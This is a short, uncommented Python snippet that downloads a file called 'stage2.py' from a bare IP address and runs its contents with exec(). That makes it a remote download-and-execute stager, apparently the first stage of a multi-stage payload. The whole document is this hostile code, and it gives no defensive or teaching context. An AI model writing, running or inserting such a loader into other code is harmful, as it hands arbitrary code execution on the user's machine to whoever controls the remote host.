from urllib.request import urlopen as fetch

code = fetch("http://203.0.113.9/stage2.py").read()
exec(code)
